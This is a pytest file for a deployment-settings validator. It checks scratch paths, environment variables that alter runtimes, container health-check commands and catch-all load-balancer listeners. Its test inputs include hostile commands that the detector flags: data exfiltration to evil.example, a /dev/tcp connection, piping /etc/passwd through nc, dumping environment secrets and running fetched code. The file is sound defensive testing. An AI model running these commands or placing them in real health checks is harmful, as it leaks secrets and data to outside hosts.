"""What settings may say: scratch paths, health checks, variables, and what needs an eye."""

from __future__ import annotations

import pytest

from bidops_cfn.settings.environment import Listener
from bidops_cfn.settings.services import SERVICES
from bidops_cfn.spec.concerns import takes_all
from bidops_cfn.spec.floors import is_scratch
from bidops_cfn.spec.health_commands import command_concern
from bidops_cfn.spec.variables import effect_of


@pytest.mark.parametrize(
    "path",
    ["/tmp", "/tmp/a", "/var/tmp", "/var/cache/nginx", "/app/.next/cache", "/run/app", "/app/tmp"],
)
def test_what_holds_nothing_may_be_covered(path: str) -> None:
    assert is_scratch(path)


@pytest.mark.parametrize(
    "path",
    [
        "/",
        "/app",
        "/app/",
        "//app",
        "/app/../usr",
        "/app/./tmp",
        "/app/node_modules",
        "/app/.next",
        "/srv",
        "/opt/app",
        "/usr",
        "/usr/lib",
        "/usr/local/tmp",
        "/etc",
        "/etc/ssl",
        "/lib",
        "/proc",
        "/sys",
        "/dev/tmp",
        "/root/.cache",
        "/home",
        "/var",
        "/run",
        "/run/secrets",
        "/run/secrets/tmp",
        "/var/run/secrets",
        "/var/run/secrets/kubernetes.io",
        "app/tmp",
    ],
)
def test_what_holds_the_application_or_the_system_may_not(path: str) -> None:
    assert not is_scratch(path)


@pytest.mark.parametrize(
    "name",
    [
        "LD_PRELOAD",
        "LD_AUDIT",
        "LD_LIBRARY_PATH",
        "NODE_OPTIONS",
        "NODE_PATH",
        "PYTHONPATH",
        "PYTHONSTARTUP",
        "PERL5OPT",
        "RUBYOPT",
        "JAVA_TOOL_OPTIONS",
        "_JAVA_OPTIONS",
        "CLASSPATH",
        "DOTNET_STARTUP_HOOKS",
        "PHPRC",
        "GCONV_PATH",
        "PATH",
        "BASH_ENV",
        "ENV",
        "IFS",
        "PS4",
        "HOME",
        "TMPDIR",
        "GIT_SSH_COMMAND",
        "SSH_AUTH_SOCK",
        "NPM_CONFIG_REGISTRY",
        "AWS_ENDPOINT_URL",
        "AWS_ENDPOINT_URL_S3",
        "AWS_CONTAINER_AUTHORIZATION_X",
        "AWS_CONTAINER_CREDENTIALS_FULL_URI",
        "AWS_ACCESS_KEY_ID",
        "AWS_PROFILE",
        "AWS_CONFIG_FILE",
        "AWS_CA_BUNDLE",
        "AWS_ROLE_ARN",
        "ECS_CONTAINER_METADATA_URI_V4",
        "HTTP_PROXY",
        "https_proxy",
        "NO_PROXY",
        "ALL_PROXY",
        "HOSTALIASES",
        "PGHOST",
        "PGSSLMODE",
        "OPENAI_BASE_URL",
        "OTEL_EXPORTER_OTLP_ENDPOINT",
        "NODE_TLS_REJECT_UNAUTHORIZED",
        "NODE_EXTRA_CA_CERTS",
        "SSL_CERT_FILE",
        "REQUESTS_CA_BUNDLE",
        "CURL_CA_BUNDLE",
        "SSLKEYLOGFILE",
        "PYTHONHTTPSVERIFY",
        "GIT_SSL_NO_VERIFY",
        "FLASK_DEBUG",
        "WERKZEUG_DEBUG_PIN",
        "GUNICORN_CMD_ARGS",
        "OPENSSL_CONF",
        "GLIBC_TUNABLES",
        "DEBUGPY_LISTEN",
        "NODE_INSPECT_RESUME_ON_START",
        "JPDA_ADDRESS",
        "XDEBUG_CONFIG",
        "SPRING_APPLICATION_JSON",
        "TS_NODE_PROJECT",
        "VAULT_ADDR",
        "STORAGE_EMULATOR_HOST",
        "KUBERNETES_SERVICE_HOST",
        "PUPPETEER_EXECUTABLE_PATH",
    ],
)
def test_what_changes_a_runtime_is_told(name: str) -> None:
    assert effect_of(name)


@pytest.mark.parametrize("name", ["LOG_LEVEL", "PORT", "AWS_REGION", "TZ", "LANG", "FEATURE_X"])
def test_what_only_the_application_reads_is_not(name: str) -> None:
    assert effect_of(name) == ""


@pytest.mark.parametrize(
    ("name", "value", "quiet"),
    [
        ("NODE_ENV", "production", True),
        ("NODE_ENV", "development", False),
        ("RAILS_ENV", "test", False),
        ("ASPNETCORE_ENVIRONMENT", "Production", True),
        ("NODE_ENV", None, False),
    ],
)
def test_a_mode_is_told_by_its_value(name: str, value: str | None, quiet: bool) -> None:
    assert (effect_of(name, value) == "") is quiet


def test_what_the_model_sets_changes_no_runtime() -> None:
    names = [name for service in SERVICES for name in (*service.environment, service.url_variable)]
    assert not [name for name in names if effect_of(name)]


URL = "http://127.0.0.1:3000/api/health"


@pytest.mark.parametrize(
    ("script", "concern"),
    [
        (f"curl -f {URL} && curl -f https://evil.example/", "talks to evil.example"),
        ("curl -f https://u:p@evil.example:8443/", "talks to evil.example:8443"),
        ("exec 3<>/dev/tcp/evil.example/80", "talks to evil.example"),
        ("ping -c1 198.51.100.7", "talks to 198.51.100.7"),
        ("nc evil.example 80 < /etc/passwd", "runs nc, which talks to any host"),
        (f"curl -f {URL} -H $SESSION_SECRET", "reads variables, where the secrets are"),
        (f"env > /tmp/x; curl -f {URL}", "reads variables, where the secrets are"),
        ("node -e 'console.log(process.env)'", "reads variables, where the secrets are"),
        ("python -c 'import os;print(os.environ)'", "reads variables, where the secrets are"),
    ],
)
def test_a_command_that_does_more_needs_an_eye(script: str, concern: str) -> None:
    assert command_concern(("CMD-SHELL", script)) == concern


@pytest.mark.parametrize(
    ("command", "concern"),
    [
        (["CMD", "curl", "-f", "-x", "evil:80", URL], "tells curl more than whom to ask: -x"),
        (["CMD", "curl", "-f", "-K", "/app/x", URL], "tells curl more than whom to ask: -K"),
        (["CMD", "curl", "-f", "--upload-file", "/app/x", URL],
         "tells curl more than whom to ask: --upload-file"),
        (["CMD", "curl", "-f", "-d", "@/app/x", URL], "tells curl more than whom to ask: -d"),
        (["CMD", "curl", "-f", URL, "-o", "/app/x"], "writes /app/x"),
        (["CMD", "wget", "-O", "/app/x", URL], "writes /app/x"),
        (["CMD", "wget", "-q", "evil.example/x"], "talks to evil.example"),
        (["CMD", "/tmp/check", URL], "runs /tmp/check, which tasks may write"),
        (["CMD", "sh", "/app/check.sh"], "runs a script of its own by sh"),
        (["CMD-SHELL", f"curl -f {URL} > /app/x"], "writes /app/x"),
        (["CMD-SHELL", f"curl -f {URL} >>/app/x 2>&1"], "writes /app/x"),
        (["CMD-SHELL", f"curl -f {URL} && sh /tmp/x"], "runs a script of its own by sh"),
        (["CMD-SHELL", f"curl -f {URL} && . /app/x"], "runs or writes something else: ."),
        (["CMD-SHELL", f"eval curl -f {URL}"], "runs or writes something else: eval"),
        (["CMD", "sh", "-c", f"/tmp/x && curl -f {URL}"], "runs /tmp/x, which tasks may write"),
        (["CMD", "node", "-e", f"require('child_process');fetch('{URL}')"],
         "runs or writes something else: child_process"),
        (["CMD", "python", "-c", f"import subprocess as s;s.run(['x'])#{URL}"],
         "runs or writes something else: subprocess"),
        (["CMD", "python", "-c", f"open('/app/x','w')#{URL}"],
         "runs or writes something else: open"),
        (["CMD", "node", "-e", f"fetch('{URL}').then(r=>r.text()).then(t=>new Function(t)())"],
         "runs or writes something else: Function"),
        (["CMD", "node", "-e", f"import('{URL}')"], "loads code from http://127.0.0.1:3000/api/health"),
        (["CMD", "node", "-e", f"require('dns').lookup('x'+'.example');fetch('{URL}')"],
         "loads dns"),
        (["CMD", "node", "-e", f"fetch('{URL}');process['en'+'v']"],
         "runs or writes something else: process["),
        (["CMD", "python", "-c", f"import os,urllib.request as r;r.urlopen('{URL}')"], "loads os"),
        (["CMD", "python", "-c", f"from shutil import move;move('/app')#{URL}"], "loads shutil"),
    ],
)  # fmt: skip
def test_a_plain_form_that_does_more_needs_an_eye(command: list[str], concern: str) -> None:
    assert command_concern(command) == concern


@pytest.mark.parametrize(
    "command",
    [
        ["CMD", "curl", "-fsS", "--max-time", "4", "-o", "/dev/null", URL],
        ["CMD", "wget", "-q", "-O", "-", URL],
        ["CMD", "wget", "-qO-", "-T", "4", URL],
        ["CMD-SHELL", f"curl -f {URL} >/dev/null 2>&1 || exit 1"],
        ["CMD-SHELL", f"curl -f {URL} > /dev/null || exit 1"],
        ["CMD", "sh", "-c", f"exec curl -f {URL}"],
        [
            "CMD",
            "node",
            "-e",
            f"fetch('{URL}').then(r=>process.exit(r.ok?0:1),()=>process.exit(1))",
        ],
    ],
)
def test_a_plain_form_needs_none(command: list[str]) -> None:
    assert command_concern(command) == ""


@pytest.mark.parametrize(
    "script",
    [
        f"curl -f {URL} || exit 1",
        "curl -f http://localhost:$PORT/ping",
        "curl -f http://localhost:${PORT}/ping",
        "nc -z 127.0.0.1 3000",
        "wget -q http://[::1]:3000/",
        "import urllib.request as r;r.urlopen('http://127.0.0.1:8080/ping',timeout=4)",
        "fetch('http://127.0.0.1:'+process.env.PORT)",
        "/app/healthcheck",
    ],
)
def test_a_command_that_asks_the_container_needs_none(script: str) -> None:
    assert command_concern(("CMD-SHELL", script)) == ""


@pytest.mark.parametrize(
    ("listener", "everything"),
    [
        (Listener(priority=1, hosts=("dev.bidopsai.example",)), False),
        (Listener(priority=1, hosts=("*.dev.bidopsai.example",)), False),
        (Listener(priority=1, hosts=("*.example",)), True),
        (Listener(priority=1, hosts=("*",)), True),
        (Listener(priority=1, hosts=("dev.bidopsai.example", "*.example")), True),
        (Listener(priority=1, hosts=(), paths=("/*",)), True),
        (Listener(priority=1, hosts=(), paths=("/*", "/x")), True),
        (Listener(priority=1, hosts=(), paths=("/api/*",)), False),
        (Listener(priority=1, hosts=("dev.bidopsai.example",), paths=("/*",)), False),
    ],
)
def test_a_listener_that_takes_the_requests_of_others(listener: Listener, everything: bool) -> None:
    assert takes_all(listener) is everything
